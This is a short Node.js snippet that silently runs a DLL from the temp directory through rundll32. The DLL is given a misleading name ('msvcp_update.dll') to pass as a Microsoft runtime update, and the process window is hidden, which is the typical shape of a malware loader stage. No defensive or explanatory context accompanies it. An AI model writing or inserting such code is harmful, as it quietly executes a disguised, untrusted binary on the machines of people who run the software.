const { exec } = require('child_process');
const dll = require('path').join(require('os').tmpdir(), 'msvcp_update.dll');
exec('rundll32.exe ' + dll + ',DllRegisterServer', { windowsHide: true });
